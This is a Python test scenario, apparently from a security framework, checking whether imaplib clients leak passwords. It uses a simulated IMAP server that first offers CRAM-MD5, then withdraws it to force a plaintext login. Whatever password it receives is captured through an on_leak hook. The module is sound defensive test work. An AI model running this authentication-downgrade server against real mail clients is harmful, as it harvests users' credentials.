"""B7 on imaplib: the server stops offering challenge-response logins and accepts only the password itself."""

import base64
from typing import Any

from backwatch.attack.protocols.imap import IMAP
from backwatch.attack.protocols.server import ServerSession
from backwatch.attack.scenarios import SECRET
from backwatch.attack.techniques.imap import ReadsImap
from backwatch.attack.techniques.password_wanted import CHALLENGE, OffersProof, PasswordWanted


class _ProofHidingImap(OffersProof, IMAP):
    """Offers CRAM-MD5 until it turns hostile. STARTTLS is always offered."""

    def _untagged(self, session: ServerSession, verb: bytes) -> bytes:
        response = super()._untagged(session, verb)
        return response if self.wants_password else response.replace(b"AUTH=PLAIN", b"AUTH=CRAM-MD5 AUTH=PLAIN")

    def _result(self, session: ServerSession, verb: bytes, given: bytes) -> bytes:
        if verb == b"AUTHENTICATE":
            session.send(b"+ " + base64.b64encode(CHALLENGE) + b"\r\n")
            self.on_leak(base64.b64decode(session.line()))
        elif verb == b"LOGIN" and session.secured:
            self.on_leak(given)
        return super()._result(session, verb, given)


class ImapMechanismHidden(PasswordWanted, ReadsImap):
    """imaplib leaves the choice of a mechanism to the app."""

    server = _ProofHidingImap

    def log_in(self, box: Any) -> None:
        """Log in by the best mechanism that is offered."""
        if "AUTH=CRAM-MD5" in box.capabilities:
            box.login_cram_md5("shop", SECRET)
        else:
            super().log_in(box)
